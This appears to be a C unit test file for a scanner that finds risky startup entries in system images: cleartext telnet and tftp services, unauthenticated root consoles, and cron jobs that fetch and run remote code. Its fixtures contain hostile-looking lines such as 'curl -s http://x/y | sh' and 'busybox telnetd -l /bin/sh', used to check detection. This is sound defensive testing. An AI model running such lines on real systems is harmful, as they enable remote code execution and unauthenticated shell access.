/* What a system starts, from every place that says so.
 * SPDX-License-Identifier: Apache-2.0 */
#include <stdio.h>
#include "scan_rig.h"

static struct scan_rig *r;

/* The flags of the service of this name; fails when there is none. */
static uint64_t flags_of(const char *name)
{
	for (size_t i = 0; i < scan_rig_n(r, HF_FACT_SERVICE); i++) {
		const struct hf_fact *f = scan_rig_at(r, HF_FACT_SERVICE, i);

		if (scan_rig_is(f->text[HF_SERVICE_NAME], name))
			return f->num[HF_SERVICE_FLAGS];
	}
	fail_msg("no service %s", name);
	return 0;
}

static void inittab_of_both_kinds(void **unused)
{
	(void)unused;
	scan_rig_text(r, "/etc/inittab",
		      "# x\n::sysinit:/etc/init.d/rcS\nttyS0::askfirst:-/bin/sh\nttyS1::respawn:/sbin/getty "
		      "-L ttyS1 9600\n"
		      "x:3:off:/sbin/never\nT0:23:respawn:/sbin/getty -n -l /bin/sh 115200 ttyAMA0\n"
		      "::respawn:/usr/sbin/telnetd -F -p 9000 -l /bin/login\n");
	assert_int_equal(scan_rig_n(r, HF_FACT_SERVICE), 5);
	assert_int_equal(flags_of("telnetd"), HF_SERVICEF_CLEAR);
}

static void an_open_console_is_seen(void **unused)
{
	(void)unused;
	scan_rig_text(r, "/etc/inittab", "ttyS0::askfirst:-/bin/sh\n");
	assert_int_equal(scan_rig_at(r, HF_FACT_SERVICE, 0)->num[HF_SERVICE_FLAGS], HF_SERVICEF_SHELL);
	scan_rig_text(r, "/etc/inittab", "T0:23:respawn:/sbin/getty -n -l /bin/sh 115200 ttyAMA0\n");
	assert_int_equal(flags_of("getty"), HF_SERVICEF_SHELL);
	scan_rig_text(r, "/etc/inittab",
		      "T0:23:respawn:/sbin/getty 115200 ttyAMA0\n::wait:/bin/sh /etc/rc\n");
	assert_int_equal(flags_of("getty"), 0);
	assert_int_equal(flags_of("sh"), 0); /* runs a script */
}

static void telnet_is_seen_on_any_port_and_behind_busybox(void **unused)
{
	static const char *const lines[] = { "/usr/sbin/telnetd -p 9000 &",
					     "busybox telnetd -l /bin/sh",
					     "start-stop-daemon -S -q -x /usr/sbin/telnetd -- -F",
					     "[ -x /x ] && exec nohup utelnetd",
					     "FOO=1 in.tftpd -l",
					     "if true; then dnsmasq --enable-tftp; fi" };

	(void)unused;
	for (size_t i = 0; i < sizeof(lines) / sizeof(lines[0]); i++) {
		char script[200];
		bool clear = false;

		(void)snprintf(script, sizeof(script), "#!/bin/sh\n%s\n", lines[i]);
		scan_rig_text(r, "/etc/init.d/S50x", script);
		for (size_t k = 0; k < scan_rig_n(r, HF_FACT_SERVICE); k++)
			clear = clear || (scan_rig_at(r, HF_FACT_SERVICE, k)->num[HF_SERVICE_FLAGS] &
					  HF_SERVICEF_CLEAR) != 0;
		if (!clear)
			fail_msg("not seen: %s", lines[i]);
	}
}

static void talk_of_telnet_is_not_telnet(void **unused)
{
	(void)unused;
	scan_rig_text(r, "/etc/init.d/S50x",
		      "#!/bin/sh\n# telnetd\necho telnetd\nkillall telnetd # /usr/sbin/telnetd\nX='telnetd; "
		      "telnetd'\n");
	for (size_t k = 0; k < scan_rig_n(r, HF_FACT_SERVICE); k++)
		assert_int_equal(
			scan_rig_at(r, HF_FACT_SERVICE, k)->num[HF_SERVICE_FLAGS] & HF_SERVICEF_CLEAR, 0);
}

static void scripts_of_init_d_run_only_when_wanted(void **unused)
{
	(void)unused;
	scan_rig_text(r, "/etc/init.d/telnet", "#!/bin/sh\ntelnetd\n");
	assert_int_equal(flags_of("telnetd"), HF_SERVICEF_CLEAR | HF_SERVICEF_TEMPLATE);
	scan_rig_link(r, "/etc/rc2.d/S01telnet", "../init.d/telnet");
	assert_int_equal(scan_rig_at(r, HF_FACT_SERVICE, 0)->num[HF_SERVICE_SOURCE], HF_SOURCE_WANTS);
	assert_true(scan_rig_is(scan_rig_at(r, HF_FACT_SERVICE, 0)->text[HF_SERVICE_UNIT], "telnet"));
	scan_rig_link(r, "/etc/rc2.d/K01telnet", "../init.d/telnet");
	assert_int_equal(scan_rig_n(r, HF_FACT_SERVICE), 0);
}

static void units_and_sockets(void **unused)
{
	(void)unused;
	scan_rig_text(r, "/lib/systemd/system/telnet@.service",
		      "[Service]\nExecStart=-/usr/sbin/in.telnetd\nUser=root\n");
	assert_int_equal(flags_of("in.telnetd"), HF_SERVICEF_CLEAR | HF_SERVICEF_TEMPLATE);
	scan_rig_text(r, "/etc/systemd/system/a.socket",
		      "[Socket]\nListenStream=[::]:23\nListenStream=/run/a\n");
	assert_int_equal(scan_rig_n(r, HF_FACT_LISTENER), 1);
	assert_int_equal(scan_rig_at(r, HF_FACT_LISTENER, 0)->num[HF_LISTENER_PORT], 23);
	assert_int_equal(scan_rig_at(r, HF_FACT_LISTENER, 0)->num[HF_LISTENER_FLAGS], HF_LISTENERF_ALL);
	scan_rig_text(r, "/etc/systemd/system/serial-getty@ttyS0.service.d/auto.conf",
		      "[Service]\nExecStart=\nExecStart=-/sbin/agetty --autologin root 115200 %I\n");
	assert_int_equal(flags_of("agetty") & HF_SERVICEF_SHELL, HF_SERVICEF_SHELL);
	scan_rig_link(r, "/etc/systemd/system/sockets.target.wants/telnet.socket",
		      "/lib/systemd/system/telnet.socket");
	assert_true(scan_rig_is(scan_rig_at(r, HF_FACT_SERVICE, 0)->text[HF_SERVICE_UNIT], "telnet.socket"));
}

static void inetd_and_xinetd(void **unused)
{
	(void)unused;
	scan_rig_text(r, "/etc/inetd.conf",
		      "#ftp stream tcp nowait root ftpd\ntelnet stream tcp nowait root /usr/sbin/tcpd "
		      "in.telnetd -h\n");
	assert_int_equal(scan_rig_n(r, HF_FACT_SERVICE), 1);
	assert_int_equal(flags_of("in.telnetd"), HF_SERVICEF_CLEAR);
	scan_rig_text(
		r, "/etc/xinetd.d/tftp",
		"service tftp\n{\n\tdisable = yes\n\tserver = /usr/sbin/in.tftpd\n\tuser = nobody\n}\n");
	assert_int_equal(flags_of("in.tftpd"), HF_SERVICEF_CLEAR | HF_SERVICEF_DISABLED);
}

static void cron_that_fetches_and_runs(void **unused)
{
	static const char *const bad[] = { "* * * * * root curl -s http://x/y | sh\n",
					   "@reboot root wget http://x/y -O /tmp/y && chmod +x /tmp/y\n",
					   "0 1 * * * root sh -c \"$(curl -fsSL http://x)\"\n" };
	static const char *const good[] = { "* * * * * root curl -s http://x/ping\n",
					    "0 1 * * * root run-parts /x\n",
					    "0 1 * * * root mycurl x | sh\n" };

	(void)unused;
	for (size_t i = 0; i < 3; i++) {
		scan_rig_text(r, "/etc/crontab", bad[i]);
		assert_int_equal(scan_rig_at(r, HF_FACT_SERVICE, 0)->num[HF_SERVICE_FLAGS],
				 HF_SERVICEF_FETCHRUN);
		scan_rig_text(r, "/etc/crontab", good[i]);
		assert_int_equal(scan_rig_at(r, HF_FACT_SERVICE, 0)->num[HF_SERVICE_FLAGS], 0);
	}
	scan_rig_text(r, "/etc/cron.daily/x", "#!/bin/sh\nwget -qO- http://x | sh\n");
	assert_int_equal(flags_of("x"), HF_SERVICEF_FETCHRUN);
}

int main(void)
{
#define T(f) SCAN_RIG_TEST(f, &r)
	const struct CMUnitTest tests[] = {
		T(inittab_of_both_kinds),
		T(an_open_console_is_seen),
		T(telnet_is_seen_on_any_port_and_behind_busybox),
		T(talk_of_telnet_is_not_telnet),
		T(scripts_of_init_d_run_only_when_wanted),
		T(units_and_sockets),
		T(inetd_and_xinetd),
		T(cron_that_fetches_and_runs),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
